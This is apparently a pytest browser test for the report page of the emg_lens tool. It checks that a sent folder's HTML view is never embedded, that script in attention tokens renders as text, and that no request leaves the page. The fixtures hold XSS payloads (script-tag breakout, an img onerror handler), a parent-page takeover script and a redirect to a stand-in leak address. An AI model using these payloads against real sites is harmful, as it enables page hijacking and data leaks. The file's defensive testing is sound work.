"""report.html of a folder someone sent, in a real browser (Chromium, as
`test_report_browser` drives it): the folder's own attention_view.html is never embedded (it
could send the frame to a remote address, issue 47 section 3 item 9), the view is drawn from
attention_view.json with script in its tokens shown as text, no request leaves the page, a
working CircuitsVis view renders in its frame, and the summary table's significance stars
read exactly as written (issue 41 item 1)."""

from __future__ import annotations

import json

import pytest
import torch

from emg_lens.cli import main
from emg_lens.report.view import view_record
from tests.browser import browser_or_skip, visit

# What a view's script would do to the page around it, were it not in a sandboxed frame; it
# marks its own document to show that it did run.
ATTACK = (
    "try { window.parent.document.title = 'owned'; } catch (e) {}"
    "try { window.parent.document.body.innerHTML = '<h1>owned</h1>'; } catch (e) {}"
    "try { window.top.emgLensOwned = true; } catch (e) {}"
    "document.documentElement.setAttribute('data-ran', 'yes');"
)
STARRED = (
    "# sent\n\nDesign: 3 subjects.\n\n| layer | uni | cross | both |\n|---|---|---|---|\n"
    "| 0 | -22.1% *** | -3.0% ns | -9.5% * |\n| 1 | -12.0% ** | +1.0% ns | -14.2% ** |\n"
)


def _view(tokens: list[str]) -> str:
    """``attention_view.json`` as emg-lens inspect writes it."""
    torch.manual_seed(0)
    pattern = torch.rand(2, len(tokens), len(tokens)).softmax(-1).double()
    return json.dumps(view_record(tokens, ["L0H0", "L0H1"], pattern))


def _open(report, inspect):
    """Open ``report`` in Chromium; ``inspect(page)`` reads what it needs before the browser
    closes. Returns its result, the console messages, page errors and requests."""
    with visit(report) as page:
        page.page.wait_for_function("document.querySelector('iframe.view').offsetHeight !== 640")
        seen = inspect(page.page)
    return seen, page.console, page.failed, page.requests


@pytest.mark.slow
def test_a_sent_folders_page_is_never_embedded_and_script_in_tokens_is_text(tmp_path):
    browser_or_skip()
    folder = tmp_path / "sent"
    folder.mkdir()
    # A page in the folder that would run the attack and send the frame elsewhere.
    foreign = f"<script>{ATTACK} location = 'http://198.51.100.7/leak';</script>"
    (folder / "attention_view.html").write_text(foreign, encoding="utf-8")
    run = "document.documentElement.setAttribute('data-ran','yes')"
    tokens = ["cls", f"</script><script>{run}</script>", "<img src=x onerror={run}>", "C3"]
    (folder / "attention_view.json").write_text(_view(tokens), encoding="utf-8")
    (folder / "summary.md").write_text(STARRED, encoding="utf-8")
    assert main(["report", str(folder)]) == 0
    report = (folder / "report.html").resolve()

    def inspect(page):
        frame = page.frames[1]
        frame.wait_for_selector("text=Head Selector")
        return {
            "title": page.title(),
            "heading": page.locator("h1").first.inner_text(),
            "body": page.locator("body").inner_text(),
            "flag": page.evaluate("typeof window.emgLensOwned"),
            "ran": frame.evaluate("document.documentElement.getAttribute('data-ran')"),
            "frames": [f.url for f in page.frames],
            "frame": frame.evaluate("document.body.textContent"),
        }

    seen, _, failed, requests = _open(report, inspect)
    assert seen["title"] == "sent · emg_lens" and seen["heading"] == "sent"
    assert "owned" not in seen["body"] and "Attention view" in seen["body"]
    assert "attention_view.html" in seen["body"]  # listed as left out, with why
    assert seen["flag"] == "undefined" and seen["ran"] is None  # the attack never ran
    assert seen["frames"][1] == "about:srcdoc"
    assert "\\u003c/script\\u003e\\u003cscript\\u003edocument" in seen["frame"]  # as data
    assert not failed, failed
    assert requests == [report.as_uri()], requests  # nothing left the page


@pytest.mark.slow
def test_a_circuitsvis_view_renders_in_its_frame_and_stars_read_as_written(tmp_path):
    browser_or_skip()
    folder = tmp_path / "inspect"
    folder.mkdir()
    (folder / "attention_view.json").write_text(_view(["cls", "C3", "Cz", "C4"]), "utf-8")
    (folder / "summary.md").write_text(STARRED, encoding="utf-8")
    assert main(["report", str(folder)]) == 0
    report = (folder / "report.html").resolve()

    def inspect(page):
        frame = page.frames[1]
        frame.wait_for_selector("text=Head Selector")
        return {
            "cells": page.locator("section#summary tbody td").all_inner_texts(),
            "frame": frame.evaluate("document.body.textContent"),
            "charts": frame.evaluate(
                "Array.from(document.querySelectorAll('canvas'), c => [c.width, c.height])"
            ),
            "height": page.locator("iframe.view").bounding_box()["height"],
        }

    seen, console, failed, requests = _open(report, inspect)
    assert seen["cells"] == [
        *("0", "-22.1% ***", "-3.0% ns", "-9.5% *"),
        *("1", "-12.0% **", "+1.0% ns", "-14.2% **"),
    ]
    assert "L0H1" in seen["frame"]  # the head selector: a thumbnail per head, and the zoom
    assert sorted(seen["charts"])[-1][0] > 300 and len(seen["charts"]) == 3, seen["charts"]
    assert 200 < seen["height"] < 4000  # the frame took the view's height
    assert not console, console
    assert not failed, failed
    assert requests == [report.as_uri()], requests  # the frame's srcdoc is no request
